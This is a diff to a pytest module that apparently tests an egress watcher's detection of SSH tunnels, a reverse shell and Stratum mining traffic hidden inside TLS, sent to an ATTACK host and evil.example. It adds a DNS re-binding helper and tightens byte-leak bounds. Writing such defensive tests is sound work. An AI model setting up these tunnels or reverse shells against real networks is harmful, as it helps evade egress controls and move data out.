@@ -25,8 +25,20 @@ on port 1 only), evil.example is not."""
 @pytest.fixture(scope="module")
 def opaque(lab_factory: LabFactory) -> tuple[SecurityLab, Kit]:
     lab = lab_factory(POLICY)
-    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])  # binds ssh.lab -> 198.18.10.7 for this sandbox
+    bind_ssh_lab(lab)
     return lab, start_servers(lab)
+
+
+SSH_OPENING_BOUND = 4096
+"""Bytes SSH inside TLS with a bound name gets to the server before the watcher closes it at SSH's opening (the
+TLS handshake, SSH's identification, KEXINIT and first key exchange message): 3,326 in the lab with OpenSSH 9.2
+(3,944-3,966 before, when it was closed at the server's USERAUTH_SUCCESS)."""
+
+
+def bind_ssh_lab(lab: SecurityLab) -> None:
+    """Resolve ssh.lab in the sandbox: binds it to 198.18.10.7 for this sandbox, for the TTL (60 s in the lab),
+    so each bound-name technique resolves again (in a long module the fixture's binding has expired)."""
+    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])
 
 
 def _ssh(lab: SecurityLab, kit: Kit, port: int, *forward: str) -> list[str]:
@@ -54,6 +66,7 @@ def _reverse_shell(lab: SecurityLab) -> bool:
 @pytest.mark.parametrize("mode", ["socks-D", "reverse-R"])
 def test_ssh_inside_stunnel(opaque: tuple[SecurityLab, Kit], sni: str, mode: str) -> None:
     lab, kit = opaque
+    bind_ssh_lab(lab)
     local = 6000 + len(lab.processes)
     client = stunnel_client(lab, kit, f"ssh-{mode}-{sni}", local, f"{ATTACK}:8443", SNI[sni])
     if mode == "reverse-R":
@@ -75,10 +88,10 @@ def test_ssh_inside_stunnel(opaque: tuple[SecurityLab, Kit], sni: str, mode: str
     leaked = crossed.bytes_to(ATTACK, 8443, "tcp")
     reason = lab.reason_of(since, lambda r: r.dst == ATTACK and r.dport == 8443)
     report(f"opaque/stunnel-ssh{mode[-3:].lstrip('-e')}-{sni}", "tunnel", leaked, goal, reason,
-           "bytes = TLS handshake + SSH key exchange + auth request" if leaked else "")  # fmt: skip
+           "bytes = TLS handshake + SSH identification and clear key exchange" if leaked else "")  # fmt: skip
     assert not goal, ssh.log()
-    if sni == "bound-sni":  # the watcher needs the key exchange and the authentication to see SSH's sizes
-        assert reason == "tunnel" and leaked < 16_384, (reason, leaked)
+    if sni == "bound-sni":  # closed at SSH's opening: the key exchange crosses, no encrypted SSH packet does
+        assert reason == "tunnel" and leaked < SSH_OPENING_BOUND, (reason, leaked)
     else:
         assert leaked == 0, crossed.table()
         assert reason in {"tls-no-sni", "not-allowlisted"}, reason
@@ -128,6 +141,7 @@ def test_stratum_inside_tls(opaque: tuple[SecurityLab, Kit], sni: str) -> None:
 )
 def test_stratum_inside_tls_with_a_bound_name(opaque: tuple[SecurityLab, Kit]) -> None:
     lab, _ = opaque
+    bind_ssh_lab(lab)
     pool = next(p for p in lab.processes if p.name == "pool")
     before = pool.log().count("share accepted")
     with lab.capture("stratum-tls-bound") as capture:
